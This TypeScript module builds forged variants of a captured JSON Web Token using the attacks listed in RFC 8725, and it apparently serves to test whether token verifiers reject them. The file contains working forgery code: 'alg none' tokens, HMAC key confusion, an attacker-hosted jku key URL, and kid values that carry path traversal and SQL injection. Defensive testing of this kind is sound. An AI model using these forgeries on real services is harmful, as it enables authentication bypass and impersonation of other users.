import { createHmac, generateKeyPairSync, sign } from 'node:crypto';

const encoded = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const decoded = (part: string | undefined) => JSON.parse(Buffer.from(part ?? '', 'base64url').toString());

/** What a stranger can make of a token that they have seen, by the attacks of RFC 8725, chapter 2. @param keys the public ones */
export function forgedTokens(token: string, keys: readonly { readonly kid: string; readonly x: string }[]) {
  const [head, payload, signature] = token.split('.') as [string, string, string];
  const header = decoded(head);
  const own = generateKeyPairSync('ed25519');
  const jwk = own.publicKey.export({ format: 'jwk' });
  const signed = (over: object, claims = payload) => {
    const text = `${encoded({ ...header, ...over })}.${claims}`;
    return `${text}.${sign(null, Buffer.from(text), own.privateKey).toString('base64url')}`;
  };
  const { x } = keys.find(({ kid }) => kid === header.kid) ?? (keys[0] as { x: string });
  const hmacText = `${encoded({ ...header, alg: 'HS256' })}.${payload}`;
  const mac = createHmac('sha256', Buffer.from(x, 'base64url')).update(hmacText).digest('base64url');
  const other = encoded({ ...decoded(payload), sub: 'somebody-else' });
  return {
    'no algorithm': `${encoded({ ...header, alg: 'none' })}.${payload}.`,
    'no signature': `${head}.${payload}.`,
    'a public key as a shared secret': `${hmacText}.${mac}`,
    'other claims under the signature': `${head}.${other}.${signature}`,
    'another key under a known id': signed({}),
    'a key of its own': signed({ jwk }),
    'a key to be fetched': signed({ jku: 'https://attacker.example/jwks.json', kid: 'mine' }),
    'a certificate of its own': signed({ x5c: ['MIIB'] }),
    'a key id that is a path': signed({ kid: '../../../../dev/null' }),
    'a key id that is SQL': signed({ kid: "' OR 1=1 --" }),
    'an extension that must be understood': signed({ crit: ['b64'], b64: false }),
    'another spelling': `${token}=`,
  };
}
